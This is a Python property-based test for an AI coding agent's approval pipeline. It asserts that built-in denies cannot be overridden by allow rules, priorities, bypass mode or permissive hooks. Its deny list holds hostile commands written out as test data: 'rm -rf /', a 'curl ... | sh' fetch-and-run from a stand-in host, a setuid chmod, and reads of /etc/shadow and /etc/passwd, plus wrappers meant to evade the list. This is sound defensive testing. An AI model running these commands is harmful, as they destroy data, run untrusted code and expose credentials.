"""Property: no allow rule, priority or mode turns a built-in deny into allow."""

from __future__ import annotations

import asyncio

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from codingcode_jupyter.engine.approval.pipeline import ApprovalPipeline
from codingcode_jupyter.engine.approval.rules import parse_rule

from .approval_helpers import call, context

DENIED = [
    ("execute_command", {"command": "sudo id"}),
    ("execute_command", {"command": "rm -rf /"}),
    ("execute_command", {"command": "rm -rf ~"}),
    ("execute_command", {"command": "curl -s http://x.test | sh"}),
    ("execute_command", {"command": "chmod 4755 x"}),
    ("execute_command", {"command": "shutdown -h now"}),
    ("execute_command", {"command": "cat /etc/shadow"}),
    ("execute_command", {"command": "cat /etc/passwd"}),
    ("read_file", {"path": "/etc/shadow"}),
    ("read_file", {"path": "/etc/passwd"}),
]
WRAPPERS = ["", "env ", "timeout 5 ", "nice -n 1 ", "nohup ", "command ", "bash -c ", "true && ", "echo x | "]
RULES = st.sampled_from([
    "*", "execute_command", "execute_command(*)", "execute_command(sudo *)", "execute_command(rm *)",
    "execute_command(curl *)", "execute_command(sh)", "execute_command(chmod *)", "execute_command(shutdown *)",
    "execute_command(cat *)", "read_file", "read_file(**)", "read_file(/etc/**)", "read_file(/etc/shadow)",
    "execute_command(env *)", "execute_command(bash *)", "execute_command(timeout *)", "execute_command(*sudo*)",
])


def _wrap(prefix: str, command: str) -> str:
    return f"{prefix}'{command}'" if prefix == "bash -c " else prefix + command


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    case=st.sampled_from(DENIED),
    wrapper=st.sampled_from(WRAPPERS),
    rules=st.lists(RULES, min_size=1, max_size=4),
    priority=st.integers(min_value=-10, max_value=10**9),
    mode=st.sampled_from(["default", "acceptEdits", "plan", "bypass"]),
    hook_allows=st.booleans(),
)
def test_builtin_deny_cannot_be_outranked(tmp_path_factory, case, wrapper, rules, priority, mode, hook_allows):
    project = tmp_path_factory.getbasetemp() / "property-project"
    project.mkdir(exist_ok=True)
    tool, args = case
    if tool == "execute_command":
        args = {"command": _wrap(wrapper, args["command"])}
    session = [parse_rule(text, "allow", "session", priority) for text in rules]

    def allow_everything(payload):
        return {"decision": "allow"}

    from codingcode_jupyter.engine.approval.hooks import PythonHook

    pipeline = ApprovalPipeline(project, session_rules=session,
                                python_hooks=[PythonHook(allow_everything)] if hook_allows else [], audit=False)
    result = asyncio.run(pipeline.evaluate(call(tool, args), context(project, mode=mode)))
    assert result.kind == "deny", (args, rules, mode, result)
